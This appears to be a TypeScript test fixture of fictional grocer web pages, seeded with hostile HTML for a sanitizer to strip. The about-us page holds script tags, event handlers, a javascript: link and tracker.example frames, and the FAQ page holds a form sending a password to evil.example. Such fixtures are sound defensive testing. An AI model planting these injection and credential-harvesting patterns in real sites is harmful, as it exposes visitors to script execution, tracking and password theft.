export type Article = { path: string; title: string; body: string }

/** Text pages like those of old websites, with content that must not be imported. */
export const ARTICLES: Record<string, Article[]> = {
  'green-grocer': [
    {
      path: '/about-us.html',
      title: 'About Grüner Korb',
      body: `<h2 style="color:red" onclick="globalThis.hit=1">Since 1987</h2><p>We bring <strong>vegetables</strong> from <em>twelve farms</em> within forty kilometres, picked on the morning of the day.</p><script>globalThis.hit=1</script><iframe src="https://tracker.example/frame"></iframe><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""><p>Try our <a href="/sortiment/fruit/boskoop-apples.html" onmouseover="globalThis.hit=1">apples</a>, read our <a href="/faq/">answers</a>, or <a href="javascript:globalThis.hit=1">click here</a>.</p><ul><li>No plastic</li><li>No air freight</li></ul>`,
    },
    {
      path: '/faq/',
      title: 'Questions and answers',
      body: `<h2>When do you deliver?</h2><p>From Tuesday to Saturday, between eight in the morning and six in the evening, by cargo bike.</p><h2>May I return a box?</h2><p>Yes, and the deposit comes back with your next order.</p><form action="https://evil.example"><input name="password"></form>`,
    },
    {
      path: '/blog/first-asparagus',
      title: 'The first asparagus is here',
      body: `<p>It came a week early this year. We drove out at five in the morning to see the first spears being cut, and brought forty kilograms back.</p>`,
    },
  ],
}
